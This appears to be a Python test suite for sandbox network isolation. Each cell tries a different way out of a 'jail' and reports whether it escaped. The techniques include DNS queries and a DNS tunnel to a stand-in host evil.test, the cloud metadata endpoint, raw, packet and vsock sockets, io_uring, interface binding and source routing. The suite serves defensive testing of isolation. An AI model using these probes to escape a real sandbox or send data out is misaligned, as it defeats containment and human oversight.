# Attempts to reach another host by a socket.

# %% TCP to a port without a listener [succeeds]
tcp(SERVER, 7000)

# %% TCP over IPv6 [succeeds]
tcp(SERVER6, 7000, socket.AF_INET6)

# %% TLS to a hard-coded address [not-tried]
text = curl("-k", "https://10.81.0.1/echo")
print("closed" if "no such host for you" in text else "OUT", text)

# %% TLS to a hard-coded address with an allowed name [not-tried]
text = curl("-k", "--resolve", "a.test:443:10.81.0.1", "https://a.test/echo")
print("closed" if "name_mismatch" in text else "OUT", text)

# %% HTTP to a hard-coded address [not-tried]
text = curl("http://10.81.0.1/echo")
print("closed" if "no such host for you" in text else "OUT", text)

# %% HTTP with the Host of an allowed name to another [not-tried]
text = curl("-H", "Host: a.test", "http://b.test/echo")
print("closed" if "name_mismatch" in text else "OUT", text)

# %% HTTP with the Host of another name to an allowed one [not-tried]
text = curl("-H", "Host: b.test", "http://a.test/echo")
print("closed" if "name_mismatch" in text else "OUT", text)

# %% a proxy that the environment names [succeeds]
os.environ["http_proxy"] = "http://10.81.0.1:3128"
text = curl("http://a.test/echo")
print("closed" if "refused" in text or "Could" in text or "Failed" in text else "OUT", text)

# %% an unknown address of the jail's name server [not-tried]
tcp("44.128.77.77", 443)

# %% UDP [succeeds]
udp(SERVER, 7000)

# %% UDP over IPv6 [succeeds]
udp(SERVER6, 7000, socket.AF_INET6)

# %% QUIC [succeeds]
udp(SERVER, 443, data=b'\xc0' + b'\0' * 1199)

# %% UDP to a broadcast and a multicast address [succeeds]
errors = []
for address in ("255.255.255.255", "10.81.0.255", "224.0.0.251"):
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(1)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:
        client.sendto(b"x", (address, 7008))
        print("OUT", client.recv(100))
    except OSError as error:
        errors.append(error)
print("closed", errors)

# %% DNS over UDP to another name server [succeeds]
response, query = dns("secret.evil.test", 1)
print("OUT" if response == query else "closed: answered in the jail")

# %% DNS over TCP to another name server [succeeds]
client = socket.create_connection((SERVER, 53))
query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\1a\4test\0" + struct.pack("!2H", 1, 1)
client.sendall(struct.pack("!H", len(query)) + query)
received = client.recv(100)
print("OUT" if received == b"hello" else "closed: answered in the jail")

# %% a DNS tunnel [not-tried]
for kind in (16, 10, 5, 15, 65):
    response, _ = dns("deadbeef" * 7 + ".evil.test", kind)
    assert struct.unpack("!H", response[6:8])[0] == 0, response
print("closed: no data")

# %% DNS over TLS [succeeds]
tcp(SERVER, 853)

# %% DNS over HTTPS to an address [not-tried]
text = curl("-k", "-H", "Accept: application/dns-message", "https://10.81.0.1/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB")
print("closed" if "no such host for you" in text else "OUT", text)

# %% a metadata service [not-tried]
text = curl("http://169.254.169.254/latest/meta-data/")
print("closed" if "no such host for you" in text else "OUT", text)

# %% a service on the host's loopback [succeeds]
tcp("127.0.0.1", 7001)

# %% ICMP echo [not-tried]
try:
    ping = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
except PermissionError:
    ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
ping.sendto(b"\x08\0\xf7\xfd\0\1\0\1", (SERVER, 0))
print("OUT")

# %% a raw IP socket [succeeds]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("OUT")

# %% a packet socket [succeeds]
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)
print('OUT')

# %% SCTP [not-tried]
socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((SERVER, 7000))
print('OUT')

# %% Multipath TCP [succeeds]
client = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
client.connect((SERVER, 7000))
print("OUT")

# %% TCP Fast Open [succeeds]
client = socket.socket()
client.setblocking(True)
client.sendto(b"x", socket.MSG_FASTOPEN, (SERVER, 7000))
client.recv(1)
print("OUT")

# %% AF_VSOCK to the hypervisor [not-tried]
socket.socket(40, socket.SOCK_STREAM).connect((2, 7000))
print('OUT')

# %% other socket families [not-tried]
for family in (5, 9, 21, 30, 31, 32, 35, 37, 41, 42, 43, 44):
    try:
        socket.socket(family, socket.SOCK_SEQPACKET)
        print("OUT", family)
    except OSError as error:
        assert error.errno == errno.EAFNOSUPPORT, (family, error)
print("closed")

# %% sockets of io_uring [succeeds]
call(libc.syscall(425, 8, ctypes.create_string_buffer(120)))
print("OUT")

# %% SO_BINDTODEVICE to the host's interface [succeeds]
client = socket.socket()
client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lan\0")
client.connect((SERVER, 7000))
print("OUT")

# %% IP_TRANSPARENT and SO_MARK [succeeds]
client = socket.socket()
client.setsockopt(socket.SOL_SOCKET, 36, 1)
client.setsockopt(socket.SOL_IP, 19, 1)
print("OUT")

# %% source routing [not-tried]
client = socket.socket()
client.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton("10.81.0.2") + b"\0")
client.connect((SERVER, 7000))
print("OUT")
